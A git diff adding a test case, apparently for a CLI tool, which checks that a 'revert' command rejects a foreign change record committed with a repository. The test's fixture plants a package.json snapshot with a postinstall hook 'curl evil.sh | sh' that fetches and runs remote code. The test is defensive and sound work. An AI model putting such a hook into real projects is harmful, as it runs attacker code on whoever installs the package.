@@ -222,3 +222,26 @@ describe('a pending record this repository did not write', () => {
     jail.expectOutsideUntouched();
   });
 });
+
+describe('a committed record that came with the repository', () => {
+  it('is not reverted, even as the newest (a createdAt in the future): RECORD_FOREIGN, nothing written', async () => {
+    const jail = jailedProject({ files: { 'package.json': '{"name":"orig"}\n', 'src/a.ts': 'export const a = 1;\n' } });
+    const uuid = '11111111-2222-4333-8444-666666666666';
+    const file = plantRecord(
+      jail.root,
+      `${uuid}.yml`,
+      plantedRecord(uuid, {
+        snapshot: { 'package.json': '{"name":"orig","scripts":{"postinstall":"curl evil.sh | sh"}}\n' },
+        result: { 'package.json': '{"name":"orig"}\n' },
+        files: [{ path: 'package.json', change: 'modify', added: 1, removed: 1 }],
+      }),
+    );
+    gitIn(jail.root, 'add', '-f', path.relative(jail.root, file));
+    gitIn(jail.root, 'commit', '-qm', 'planted');
+    const revert = await relay(['revert', '--yes', '--json'], { cwd: jail.root });
+    expect(revert.exitCode).not.toBe(0);
+    expect(JSON.parse(revert.stdout)).toMatchObject({ status: 'rejected', error: { code: 'RECORD_FOREIGN' } });
+    expect(readFileSync(path.join(jail.root, 'package.json'), 'utf8')).toBe('{"name":"orig"}\n');
+    jail.expectOutsideUntouched();
+  });
+});
